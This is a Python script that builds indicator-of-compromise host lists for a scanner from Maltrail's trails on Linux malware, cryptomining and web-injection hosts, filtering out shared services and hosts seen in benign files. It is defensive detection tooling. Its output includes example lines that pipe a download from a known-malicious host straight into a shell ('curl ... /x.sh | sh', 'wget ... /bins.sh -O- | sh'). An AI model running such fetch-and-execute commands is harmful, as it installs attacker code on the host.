#!/usr/bin/env python3
"""Build the built-in known-bad host lists (signatures/ioc/*_hosts.txt) from Maltrail's static
trails (https://github.com/stamparm/maltrail, MIT licence): the hosts that public analyses tie to
Linux and container malware, mining campaigns and injected web loaders.

    python3 bench/maltrail_lists.py MALTRAIL_CHECKOUT [--sweep DIR ...] [--out signatures/ioc]

Only whole hosts are kept (domain names and IPv4 addresses; `ip:port` gives its address): a
trail with a path (`github.com/user/repo`, `/x.sh`) names a place on a shared site, not a host an
attacker owns. Dropped too: Maltrail's own whitelist (data/whitelist.txt), reserved and private
addresses, public resolvers, names that are shared services rather than an attacker's host (a
dynamic-DNS or hosting provider's own domain: `duckdns.org`, never `x.duckdns.org`; every name
the Public Suffix List (Debian's `publicsuffix` package) lists), names whose last label is no
top-level domain (`jquery.min.js`; OpenNIC's, which botnets use, are kept), and every host that
occurs in a real benign file under the `--sweep` directories (a Debian machine's /usr, /etc,
Rust and Python package trees): a trail that benign software names is not evidence.
"""

import argparse
import ipaddress
import os
import re
import subprocess
import sys

# Which trails go into which list, by file name under trails/static (a trail file is one family).
LISTS = [
    {
        "file": "malware_hosts.txt",
        "name": "linux-malware-host",
        "severity": "high",
        "category": "malware",
        "description": "A host that public analyses tie to Linux or container malware (botnets, backdoors, worms; Maltrail's trails, family named)",
        "trails": lambda name: (name.startswith("malware/elf_") and not any(m in name for m in ("miner", "teamtnt", "skidmap", "doki")))
        or name in ("malware/perl_shellbot.txt", "malware/p2pinfect.txt", "malware/lucifer.txt", "malware/androxgh0st.txt",
                    "malware/hacked_pytorch.txt", "malware/dockerhub_malrepos.txt", "malicious/elf_reversessh.txt"),
    },
    {
        "file": "miner_campaign_hosts.txt",
        "name": "miner-campaign-host",
        "severity": "high",
        "category": "cryptominer",
        "description": "A host that public analyses tie to a cryptojacking campaign (its droppers, payloads or proxies; Maltrail's trails, family named)",
        "trails": lambda name: name.startswith("malware/")
        and not name.startswith(("malware/android_", "malware/osx_"))
        and ("miner" in name or name in ("malware/elf_teamtnt.txt", "malware/elf_skidmap.txt", "malware/elf_doki.txt",
                                          "malware/rediswannamine.txt")),
    },
    {
        "file": "web_injection_hosts.txt",
        "name": "web-injection-host",
        "severity": "high",
        "category": "hijack",
        "description": "A host that serves injected web loaders or traffic-direction systems (Parrot TDS, SocGholish, ClearFake and the like; Maltrail's trails, family named): a page or script naming it sends visitors there",
        "trails": lambda name: name.startswith("malicious/") and (name.endswith("_tds.txt") or name in (
            "malicious/wp_inject.txt", "malicious/ek_clearfake.txt", "malicious/ek_clearfake-1.txt", "malicious/socgholish.txt",
            "malicious/magentocore.txt"))
        or name in ("malware/socgholish.txt", "malware/ta569.txt"),
    },
]

# Shared services: a trail naming the service itself (not one of its hosts) is dropped.
SHARED = {
    "duckdns.org", "no-ip.com", "no-ip.org", "noip.com", "ddns.net", "hopto.org", "zapto.org", "sytes.net", "serveo.net",
    "ngrok.io", "ngrok.com", "ngrok-free.app", "trycloudflare.com", "github.com", "githubusercontent.com", "gitlab.com",
    "bitbucket.org", "pastebin.com", "transfer.sh", "discord.com", "discordapp.com", "dropbox.com", "google.com",
    "googleapis.com", "amazonaws.com", "cloudfront.net", "azurewebsites.net", "windows.net", "herokuapp.com", "vercel.app",
    "netlify.app", "workers.dev", "pages.dev", "000webhostapp.com", "cjb.net", "ipify.org", "icanhazip.com", "ifconfig.me",
    "ipinfo.io", "tor2web.org", "onion.ws", "docker.com", "docker.io", "npmjs.org", "pypi.org",
}
RESERVED_NAMES = re.compile(r"(^|\.)(example\.(com|net|org)|localhost|local|localdomain|test|invalid|lan|home|corp|internal)$")
PUBLIC_RESOLVERS = {"1.1.1.1", "1.0.0.1", "8.8.8.8", "8.8.4.4", "9.9.9.9", "149.112.112.112", "208.67.222.222", "208.67.220.220"}
HOST = re.compile(r"[a-z0-9_-]+(\.[a-z0-9_-]+)+")
PUBLIC_SUFFIXES = "/usr/share/publicsuffix/public_suffix_list.dat"
# OpenNIC's top-level domains: botnets resolve their C2 names there (Mirai variants on .lib, .oss, .dyn).
OPENNIC = {"bbs", "chan", "cyb", "dyn", "epic", "geek", "gopher", "indy", "libre", "neo", "null", "o", "oss", "oz", "parody",
           "pirate", "lib", "bit", "fur", "free"}
TOKEN = re.compile(rb"[A-Za-z0-9_.-]*\.[A-Za-z0-9_.-]*")


def public_suffixes():
    """The Public Suffix List's rules (wildcards and exceptions as written) and its top-level domains."""
    with open(PUBLIC_SUFFIXES, encoding="utf-8") as f:
        rules = {line.strip().lower() for line in f if line.strip() and not line.startswith("//")}
    return rules, {rule for rule in rules if "." not in rule and not rule.startswith(("*", "!"))} | OPENNIC


def host_of(trail, tlds):
    """The host a trail line names, or None when it names a path, a URL or a port range."""
    trail = trail.strip().lower()
    if not trail or trail.startswith("#") or "/" in trail or "*" in trail:
        return None
    host = trail
    if re.fullmatch(r"[0-9.]+:[0-9]+", host):
        host = host.split(":")[0]
    host = host.rstrip(".")
    try:
        ip = ipaddress.IPv4Address(host)
    except ValueError:
        ip = None
    if ip is not None:
        return None if (not ip.is_global or host in PUBLIC_RESOLVERS) else host
    if not HOST.fullmatch(host) or host.rsplit(".", 1)[1] not in tlds:
        return None
    return host


def swept_hosts(dirs, candidates):
    """The candidates that occur as a whole dotted token, or its parent, in the regular files
    under `dirs`."""
    seen = set()
    for top in dirs:
        for root, subdirs, files in os.walk(top):
            subdirs[:] = [d for d in subdirs if not os.path.islink(os.path.join(root, d))]
            for f in files:
                path = os.path.join(root, f)
                try:
                    if os.path.islink(path) or os.path.getsize(path) > 8 << 20:
                        continue
                    with open(path, "rb") as fh:
                        data = fh.read()
                except OSError:
                    continue
                for m in TOKEN.finditer(data):
                    token = m.group(0).lower().strip(b".")
                    labels = token.split(b".")
                    for i in range(len(labels) - 1):
                        name = b".".join(labels[i:]).decode("ascii", "replace")
                        if name in candidates:
                            seen.add(name)
    return seen


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("maltrail")
    ap.add_argument("--sweep", action="append", default=[], help="a directory of real benign files (repeatable)")
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "signatures", "ioc"))
    a = ap.parse_args()
    commit = subprocess.run(["git", "-C", a.maltrail, "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip() or "unknown"
    static = os.path.join(a.maltrail, "trails", "static")
    with open(os.path.join(a.maltrail, "data", "whitelist.txt"), encoding="utf-8", errors="replace") as f:
        whitelist = {line.strip().lower() for line in f if line.strip() and not line.startswith("#")}
    suffixes, tlds = public_suffixes()
    trails = sorted(f"{d}/{f}" for d in ("malware", "malicious", "suspicious") for f in os.listdir(os.path.join(static, d)) if f.endswith(".txt"))
    candidates = set()
    for trail in trails:
        if any(spec["trails"](trail) for spec in LISTS):
            with open(os.path.join(static, trail), encoding="utf-8", errors="replace") as f:
                candidates.update(host for host in (host_of(line, tlds) for line in f) if host)
    benign = swept_hosts(a.sweep, candidates)
    print(f"{len(candidates)} candidate hosts, {len(benign)} of them in the benign sweep: {sorted(benign)}", file=sys.stderr)
    taken = set()
    for spec in LISTS:
        families, dropped = {}, {"whitelisted": 0, "shared service": 0, "seen in benign files": 0, "reserved": 0}
        for trail in filter(spec["trails"], trails):
            hosts = set()
            with open(os.path.join(static, trail), encoding="utf-8", errors="replace") as f:
                for line in f:
                    host = host_of(line, tlds)
                    if host is None or host in taken:
                        continue
                    if host in whitelist:
                        dropped["whitelisted"] += 1
                    elif host in SHARED or host in suffixes:
                        dropped["shared service"] += 1
                    elif RESERVED_NAMES.search(host):
                        dropped["reserved"] += 1
                    elif host in benign:
                        dropped["seen in benign files"] += 1
                    else:
                        hosts.add(host)
            taken |= hosts
            if hosts:
                families[os.path.basename(trail)[:-4]] = (trail, sorted(hosts))
        write(os.path.join(a.out, spec["file"]), spec, families, dropped, commit)
        print(f'{spec["file"]}: {sum(len(h) for _, h in families.values())} hosts in {len(families)} families; dropped {dropped}', file=sys.stderr)


def write(path, spec, families, dropped, commit):
    is_ip = lambda h: re.fullmatch(r"[0-9.]+", h) is not None
    sample = next(h for _, hosts in families.values() for h in hosts if not is_ip(h))
    ip = next((h for _, hosts in families.values() for h in hosts if is_ip(h)), None)
    lines = [
        f'# name: {spec["name"]}',
        f'# severity: {spec["severity"]}',
        f'# category: {spec["category"]}',
        f'# description: {spec["description"]}',
        "# Generated by bench/maltrail_lists.py from Maltrail's static trails (https://github.com/stamparm/maltrail,",
        f"# MIT licence, commit {commit}); edit the script, not this file. Each `# family:` line starts the hosts",
        "# of one trail file. Dropped: " + ", ".join(f"{n} {why}" for why, n in dropped.items()) + ".",
        f"# example: curl -fsSL http://{sample}/x.sh | sh",
        f"# example: {sample.upper()}",
        f"# negative: curl -fsSL http://{sample}.example.org/x.sh",
        f"# negative: 0.0.0.0 {sample}",
        f"# negative: my{sample}",
    ]
    if ip:
        lines += [f"# example: wget {ip}/bins.sh -O- | sh", f"# negative: 1{ip}"]
    for family, (trail, hosts) in sorted(families.items()):
        lines.append(f"# family: {family} (trails/static/{trail})")
        lines += hosts
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
